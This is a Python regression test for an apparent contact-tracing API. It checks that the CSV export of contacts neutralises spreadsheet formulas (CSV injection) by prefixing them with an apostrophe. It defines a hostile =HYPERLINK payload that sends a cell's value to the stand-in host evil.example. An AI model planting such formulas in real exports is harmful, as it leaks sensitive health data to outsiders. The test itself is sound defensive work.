"""The contact list CSV a health authority opens in a spreadsheet runs no formula.

As found: subject labels (investigators), camera names and places (operators) went into the CSV
as typed, so a label "=HYPERLINK(...)" or "@SUM(...)" became a live formula in the authority's
spreadsheet (CSV injection: data sent to another host on a click, or worse with DDE). Cells that
would start a formula are now written with a leading apostrophe; the JSON export is unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any

import pytest

from api.world import World, build_world, login
from cli_login import cheap_argon2

pytest.importorskip("argon2")
HOSTILE = '=HYPERLINK("https://evil.example/?"&A2,"open")'


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with cheap_argon2():
        w = build_world(tmp_path_factory.mktemp("csv") / "home")
    from epitrace.store.orm import Subject

    with w.store.db.session() as s:  # the world's subject, relabelled as an attacker would label it
        s.get_one(Subject, w.subject_a).label = HOSTILE
        s.commit()
    yield w



def test_no_cell_of_the_contact_csv_starts_a_formula(client: Any, world: World) -> None:
    r = client.get(f"/api/cases/{world.case_a}/contacts/export", params={"format": "csv"},
                   headers=login(client, "ana"))
    assert r.status_code == 200, r.text
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert rows and all(row["subject"] == "'" + HOSTILE for row in rows)
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    doc = client.get(f"/api/cases/{world.case_a}/contacts/export", params={"format": "json"},
                     headers=login(client, "ana")).json()
    assert doc["contacts"][0]["subject"] == HOSTILE  # JSON carries the label as it is
